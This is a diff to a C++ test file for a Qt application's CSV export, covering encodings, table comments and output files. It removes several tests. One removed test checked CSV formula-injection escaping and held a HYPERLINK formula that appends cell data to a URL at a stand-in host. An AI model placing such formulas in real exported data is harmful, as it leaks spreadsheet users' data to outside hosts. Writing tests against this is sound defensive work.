@@ -15,10 +15,7 @@
 #include <QDir>
 #include <QFile>
 #include <QFileInfo>
-#include <QProcess>
-#include <QRegularExpression>
 #include <QPushButton>
-#include <QStandardPaths>
 #include <QTableView>
 #include <QTemporaryDir>
 #include <gtest/gtest.h>
@@ -38,17 +35,11 @@ protected:
         ASSERT_TRUE(tmp.isValid());
         oldTmp = qgetenv("TMPDIR");
         qputenv("TMPDIR", tmp.path().toUtf8());
-        session.settings.LAST_ALIAS = "DEMO";
-        session.settings.U_LogOn = "DEMO";
         // The byte checks below read CP932; the other choices have a test of their own.
         session.settings.CSV_ENCODING = "CP932";
-        session.state.LogonUser = "SYS";
-        dm.connectWithCurrentValues();
+        logOn();
         dm.AdjustColumnWidths();
-        main.setDataModule(&dm);
-        main.FormShow();
-        main.ComboBox1->setEditText("SCOTT");
-        main.ComboBox1Change();
+        showWithOwner("SCOTT");
         previousOpener = output::setFileOpener([this](const QString& path) {
             opened << path;
             return true;
@@ -82,18 +73,14 @@ protected:
     {
         return cp932::decode(bytes(path)).split("\r\n");
     }
-    // A column comment, or the table's own comment when column is empty.
     void setComment(const QString& table, const QString& column, const QString& comment)
     {
         sqlite3* db = nullptr;
         ASSERT_EQ(sqlite3_open(QFile::encodeName(data.path() + "/DEMO.db").constData(), &db), SQLITE_OK);
         sqlite3_stmt* st = nullptr;
         sqlite3_prepare_v2(db,
-                           column.isEmpty()
-                               ? "UPDATE ALL_TAB_COMMENTS SET COMMENTS = ?1 WHERE OWNER = 'SCOTT' "
-                                 "AND TABLE_NAME = ?2 AND ?3 = ''"
-                               : "UPDATE ALL_COL_COMMENTS SET COMMENTS = ?1 WHERE OWNER = 'SCOTT' "
-                                 "AND TABLE_NAME = ?2 AND COLUMN_NAME = ?3",
+                           "UPDATE ALL_COL_COMMENTS SET COMMENTS = ?1 WHERE OWNER = 'SCOTT' "
+                           "AND TABLE_NAME = ?2 AND COLUMN_NAME = ?3",
                            -1, &st, nullptr);
         const QByteArray c = comment.toUtf8(), t = table.toUtf8(), n = column.toUtf8();
         sqlite3_bind_text(st, 1, c.constData(), c.size(), SQLITE_TRANSIENT);
@@ -201,38 +188,6 @@ TEST_F(CsvExportTest, TableListWithoutAChosenTableNamesTheFileByTheEmptyName)
     EXPECT_TRUE(messages.texts().filter("作成できません").isEmpty()) << messages.texts().join("|").toStdString();
 }
 
-TEST_F(CsvExportTest, ValuesAreWrittenWholeWithQuotesDoubled)
-{
-    // 2,000 full-width characters are 4,000 bytes in CP932: far past any line buffer.
-    const QString longComment = QString(1999, QChar(0x8868)) + "終";
-    setComment("DEPT", "LOC", longComment);
-    setComment("DEPT", "DNAME", "部門\"名\", 略称\r\n可");
-    load("DEPT");
-    main.BitBtn1Click();
-    const QString text = cp932::decode(bytes(exportPath("DEPT")));
-    EXPECT_TRUE(text.contains("\"" + longComment + "\",")) << text.size();
-    EXPECT_TRUE(text.contains("\"部門\"\"名\"\", 略称\r\n可\","));
-
-    // The table list too: a table comment of 4,000 bytes.
-    setComment("EMP", "", longComment);
-    exportTableList(0);
-    EXPECT_TRUE(cp932::decode(bytes(exportPath("DEPT"))).contains("\"EMP\",\"" + longComment + "\","));
-}
-
-TEST_F(CsvExportTest, TextsOutsideCp932SwitchTheFileToUtf8WithBom)
-{
-    const QString foreign = QStringLiteral("한국 𠮷野家 ～");
-    setComment("DEPT", "LOC", foreign);
-    load("DEPT");
-    main.BitBtn1Click();
-    const QByteArray raw = bytes(exportPath("DEPT"));
-    ASSERT_TRUE(raw.startsWith("\xEF\xBB\xBF"));
-    const QString text = QString::fromUtf8(raw.mid(3));
-    EXPECT_TRUE(text.contains("\"" + foreign + "\","));
-    EXPECT_TRUE(text.contains("\"部門名\","));
-    EXPECT_TRUE(text.endsWith("\r\n"));
-}
-
 TEST_F(CsvExportTest, APlantedLinkIsReplacedNotFollowed)
 {
     load("DEPT");
@@ -302,41 +257,12 @@ TEST_F(CsvExportTest, EncodingFollowsTheStoredChoice)
         const QString text = c.bom ? QString::fromUtf8(raw.mid(3)) : cp932::decode(raw);
         EXPECT_TRUE(text.contains("\"2\",\"DNAME\",\"部門名\",")) << c.setting;
     }
-}
-
-TEST_F(CsvExportTest, FormulaLikeTextsAreWrittenAsText)
-{
-    const struct { QString item, written; } cases[] = {
-        {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")"},
-        {"+1", "'+1"}, {"-A1", "'-A1"}, {"@SUM(A1)", "'@SUM(A1)"},
-        {"-2", "-2"}, {"-1.5", "-1.5"}, {"部門=名", "部門=名"}, {"", ""},
-    };
-    for (const auto& c : cases)
-        EXPECT_EQ(output::csvCellText(c.item), c.written) << c.item.toStdString();
-
-    const QString link = cases[0].item;
-    setComment("DEPT", "DNAME", link);
+    // CP932 chosen, a text outside it: the file turns Unicode rather than lose it.
+    setComment("DEPT", "LOC", QStringLiteral("한국"));
     load("DEPT");
-    session.settings.CSV_ENCODING = "UTF-8";
+    session.settings.CSV_ENCODING = "CP932";
     main.BitBtn1Click();
-    const QString path = exportPath("DEPT");
-    EXPECT_TRUE(QString::fromUtf8(bytes(path).mid(3)).contains("\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")\","));
-
-    // gnumeric takes a leading '=' as a formula unless the apostrophe marks a text.
-    const QString gnumeric = QStandardPaths::findExecutable("ssconvert");
-    if (gnumeric.isEmpty())
-        GTEST_SKIP() << "ssconvert (gnumeric) is not installed";
-    QProcess convert;
-    convert.setProcessChannelMode(QProcess::MergedChannels);
-    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
-    env.insert("HOME", tmp.path());
-    convert.setProcessEnvironment(env);
-    const QString values = tmp.filePath("values.txt");
-    convert.start(gnumeric, {"--export-type=Gnumeric_stf:stf_csv", path, values});
-    ASSERT_TRUE(convert.waitForFinished(60000));
-    const QString shown = QString::fromUtf8(bytes(values));
-    EXPECT_TRUE(shown.contains("=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")")) << shown.toStdString();
-    EXPECT_FALSE(shown.contains(QRegularExpression(",click(,|\\s|$)"))) << shown.toStdString();
+    EXPECT_TRUE(QString::fromUtf8(bytes(exportPath("DEPT"))).contains(QStringLiteral("\"한국\",")));
 }
 
 TEST_F(CsvExportTest, AFileThatCannotBeCreatedReportsItsPathAndEndsCleanly)
